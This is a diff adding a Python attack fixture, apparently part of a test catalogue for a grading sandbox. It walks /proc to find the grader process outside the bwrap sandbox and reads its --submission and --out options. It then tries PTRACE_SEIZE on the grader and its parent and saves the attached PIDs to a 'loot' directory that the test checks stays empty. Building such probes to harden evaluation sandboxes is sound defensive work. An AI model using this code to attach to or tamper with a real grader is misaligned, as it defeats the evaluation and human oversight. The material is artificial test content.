@@ -1,0 +1,62 @@
+"""Attaches to the grader as a debugger would."""
+import ctypes
+import os
+
+try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
+    with open("/proc/self/comm", "w") as _comm:
+        _comm.write("mpgrade-attack")
+except OSError:
+    pass
+
+
+def grader():
+    """The grade process: the nearest ancestor that is not part of the sandbox (None when hidden)."""
+    pid = os.getpid()
+    for _ in range(12):
+        try:
+            with open(f"/proc/{pid}/status") as status:
+                parent = int(next(line for line in status if line.startswith("PPid:")).split()[1])
+            with open(f"/proc/{parent}/cmdline", "rb") as cmdline:
+                command = cmdline.read()
+        except (OSError, StopIteration, ValueError):
+            return None
+        if parent <= 1:
+            return None
+        if b"mpgrade_scenarios" not in command and b"bwrap" not in command:
+            return parent
+        pid = parent
+    return None
+
+
+def grader_option(pid, name):
+    """The value of an option on the grade command line (--submission, --out)."""
+    try:
+        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
+            argv = cmdline.read().decode(errors="replace").split("\0")
+    except (OSError, TypeError):
+        return None
+    return argv[argv.index(name) + 1] if name in argv[:-1] else None
+
+
+def loot(name, text):
+    """Keep what was taken where the attacker can fetch it later (the test checks it stays empty)."""
+    try:
+        with open(f"/tmp/mpgrade-attacks/loot/{name}", "w") as kept:
+            kept.write(text)
+    except OSError:
+        pass
+
+PTRACE_SEIZE = 0x4206
+
+
+def run_in_process(target, args=()):
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+    libc.ptrace.restype = ctypes.c_long
+    held = []
+    for victim in (grader(), os.getppid()):
+        if victim and libc.ptrace(PTRACE_SEIZE, victim, None, None) == 0:
+            held.append(victim)  # attached; let go when this process ends
+    if held:
+        loot("ptrace", " ".join(map(str, held)))
+    raise NotImplementedError
